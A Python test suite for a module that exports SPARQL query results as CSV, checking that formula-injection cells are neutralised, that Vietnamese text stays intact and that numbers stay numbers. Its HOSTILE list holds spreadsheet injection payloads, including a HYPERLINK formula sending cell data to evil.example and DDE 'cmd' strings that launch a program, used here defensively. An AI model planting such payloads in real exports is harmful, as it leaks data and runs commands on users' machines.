"""CSV for spreadsheets: nothing runs, Vietnamese is readable, numbers are numbers."""

import csv
import io
import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyoxigraph import QueryResultsFormat, Store

from graph.spreadsheet import harmless, spreadsheet

FORMULA = "=+-@＝＋－＠"
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "＝1",
    "＋1",
    "－1",
    "＠a",
    "a;=1",
    "a\t=1",
    "a\n=1",
    'a";=1',
    '"=1',
    ";;\n; =1",
]


def asked(query, data=""):
    store = Store()
    store.update(f"INSERT DATA {{ {data} }}")
    return spreadsheet(store.query(query).serialize(format=QueryResultsFormat.JSON))


def read(table):
    text = table.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def escaped(text):
    codes = {ord(c): f"\\u{ord(c):04X}" for c in '"\\\t\r\n'}
    return f'"{text.translate(codes)}"'


def begins_like_a_formula(text):
    """Whether some program sees a cell of the text that begins like a formula once it is trimmed."""
    cells = re.split(r"[;\t\r\n]", text)
    return any(re.match(rf"[\s\x00-\x1f\u200b\ufeff]*[{re.escape(FORMULA)}]", cell) for cell in cells)


@pytest.mark.parametrize("cell", HOSTILE)
def test_no_cell_begins_like_a_formula(cell):
    assert begins_like_a_formula(cell) or cell == '"=1'
    table = asked("SELECT ?x { ?s ?p ?x }", f"<a:s> <a:p> {escaped(cell)}")
    assert read(table)[0] == ["x"]
    (shown,) = read(table)[1]
    assert not begins_like_a_formula(shown)
    assert shown[:1] not in {*FORMULA, "\t", "\r", "\n"}
    assert shown.replace("'", "") == cell.replace("'", "")


@given(st.text(st.sampled_from([*"=+-@;\t\r\n \"',a1＝－"]), max_size=12))
def test_no_text_whatever_begins_like_a_formula(text):
    assert not begins_like_a_formula(harmless(text))


@given(st.text(st.sampled_from([*"=+-@;\t\n \"',a1"]), max_size=8), st.text("a;=\n\"'", max_size=8))
def test_no_cell_begins_like_a_formula_where_semicolons_part_the_cells(first, second):
    bindings = [{"a": {"value": first, "type": "literal"}, "b": {"value": second, "type": "literal"}}]
    answer = {"head": {"vars": ["a", "b"]}, "results": {"bindings": bindings}}
    import json

    text = spreadsheet(json.dumps(answer).encode()).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
        assert [cell for cell in row if cell.strip()[:1] in {*FORMULA}] == []


@pytest.mark.parametrize("text", ["", "Hà Nội", "a-b", "1990", "https://a.example/?a=b", "email@example.org"])
def test_what_is_harmless_stays_as_it_is(text):
    assert harmless(text) == text


def test_numbers_stay_numbers_and_what_only_claims_to_be_one_does_not():
    query = """PREFIX xsd: <http://www.w3.org/2001/XMLSchema#>
    SELECT * { VALUES (?a ?b ?c ?d ?e ?f) {
      (-5 0.5 -1.5e3 "-5" "=1+1"^^xsd:integer "-INF"^^xsd:double) } }"""
    table = asked(query)
    assert table.splitlines()[1].split(b",")[:2] == [b"-5", b"0.5"]
    a, b, c, *others = read(table)[1]
    assert (a, b, float(c)) == ("-5", "0.5", -1500.0)
    assert others == ["'-5", "'=1+1", "'-INF"]


def test_excel_can_tell_that_it_is_utf_8_and_the_text_is_whole():
    table = asked('SELECT ?tên { VALUES ?tên { "Đắk Lắk, \\"Buôn Ma Thuột\\""@vi } }')
    assert table.startswith(b"\xef\xbb\xbf")
    assert read(table) == [["tên"], ['Đắk Lắk, "Buôn Ma Thuột"']]


def test_there_is_a_column_for_every_variable_also_where_nothing_is_bound():
    table = asked("SELECT ?a ?b ?c { VALUES (?a ?b) { (UNDEF 1) (<a:x> UNDEF) } } ORDER BY ?b")
    assert read(table) == [["a", "b", "c"], ["a:x", "", ""], ["", "1", ""]]
    assert read(asked("SELECT ?a { ?a <a:none> ?b }")) == [["a"]]


def test_the_name_of_a_variable_is_a_cell_too():
    assert read(asked("SELECT (1 AS ?＝cmd) {}"))[0] == ["'＝cmd"]


def test_yes_and_no_are_a_table_of_one_cell():
    assert read(asked("ASK {}")) == [["boolean"], ["true"]]


def test_a_triple_in_a_cell_is_text():
    assert "a:p" in read(asked("SELECT (TRIPLE(<a:s>, <a:p>, 1) AS ?t) {}"))[1][0]


@pytest.mark.parametrize("text", ["\t" * 200_000, "; " * 100_000, "'" * 200_000, "\n;" * 100_000 + "="])
def test_a_long_run_of_separators_takes_no_long_time(text):
    began = time.process_time()
    harmless(text)
    assert time.process_time() - began < 5  # a quadratic one takes minutes
